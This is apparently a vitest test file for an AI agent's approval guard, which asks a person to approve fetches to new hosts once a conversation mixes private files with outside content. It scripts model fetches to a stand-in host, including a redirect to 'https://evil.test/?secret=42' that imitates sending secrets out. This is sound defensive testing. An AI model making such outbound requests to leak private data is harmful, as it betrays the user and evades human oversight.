import { afterAll, beforeEach, expect, test } from 'vitest'
import type { TurnReceipt } from '../../src/wire/turns'
import { client } from '../support/client'
import { addFetchTools } from '../support/fetch-tools'
import { fetching, type Guarded, guarded, isEnd, typesOf } from '../support/guarded'
import { eventsUntil } from '../support/scripted-model'

afterAll(addFetchTools())

let g: Guarded
beforeEach(() => {
  g = guarded()
})

test('a redirect is a request to the new host', async () => {
  const { id, cursor, approval } = await g.waiting([fetching('https://open.test/?to=evil')], 'Read open.test')
  expect(approval).toMatchObject({ hosts: ['evil.test'], summary: 'GET https://evil.test/?secret=42' })
  await g.decide(id, approval.id, 'denied')
  await eventsUntil(id, isEnd, { after: cursor })
  expect(g.reached()).toEqual(['news.test', 'open.test'])
})

test.each([
  ['a page that the person named as an address', 'Read https://evil.test/page and tell me', 'https://evil.test/x'],
  ['a host that the person named bare', 'Read evil.test, please', 'https://evil.test/x'],
  ['the same host with www', 'Look at named.test.', 'https://www.named.test/x'],
])('%s is approved', async (_, text, url) => {
  g.model.script(fetching('https://news.test/'), fetching(url), [{ text: 'Done.' }])
  const { id } = await g.owner.newConversation({ 'plan.txt': 'secret' })
  const { cursor } = await g.send(id, text)
  const events = await eventsUntil(id, isEnd, { after: cursor })
  expect(typesOf(events)).not.toContain('approval.requested')
})

test('without anything private, or without anything from outside, nothing is asked', async () => {
  g.model.script(fetching('https://news.test/'), fetching('https://evil.test/'), [{ text: 'Done.' }])
  const open = await g.owner.newConversation()
  const sent = await g.send(open.id)
  const events = await eventsUntil(open.id, isEnd, { after: sent.cursor })
  expect(typesOf(events)).not.toContain('approval.requested')
  expect(events.filter(({ data }) => data.tainted === true)).toHaveLength(1)

  g.model.script([{ call: 'mshtools-read_file', input: { file_path: 'plan.txt' } }], [{ text: 'Done.' }])
  const own = await g.owner.newConversation({ 'plan.txt': 'secret' })
  await eventsUntil(own.id, isEnd, { after: (await g.send(own.id)).cursor })
  expect(await g.owner.get(`/api/conversations/${own.id}`)).toMatchObject({ tainted: false })
})

test.each([
  ['a long message', 'x'.repeat(1001), {}],
  ['a file that was deleted since', 'Go', { 'plan.txt': 'secret' }],
])('%s is private', async (_, text, files) => {
  g.model.script(fetching('https://news.test/'), fetching('https://evil.test/'), [{ text: 'Done.' }])
  const { id } = await g.owner.newConversation(files)
  for (const path of Object.keys(files)) await g.owner.delete(`/api/conversations/${id}/files/${path}`)
  const { cursor } = await g.send(id, text)
  await eventsUntil(id, 'approval.requested', { after: cursor })
})

test('an account that turned it off is not asked', async () => {
  const careless = client('careless')
  expect(await careless.get('/api/account-settings')).toEqual({ approvals: true })
  expect(await careless.patch('/api/account-settings', { approvals: false })).toEqual({ approvals: false })
  g.model.script(fetching('https://news.test/'), fetching('https://evil.test/'), [{ text: 'Done.' }])
  const { id } = await careless.newConversation({ 'plan.txt': 'secret' })
  const body = { messageId: crypto.randomUUID(), text: 'Go' }
  const { cursor } = await careless.post<TurnReceipt>(`/api/conversations/${id}/turns`, body)
  const events = await eventsUntil(id, isEnd, { after: cursor, account: 'careless' })
  expect(typesOf(events)).not.toContain('approval.requested')
})
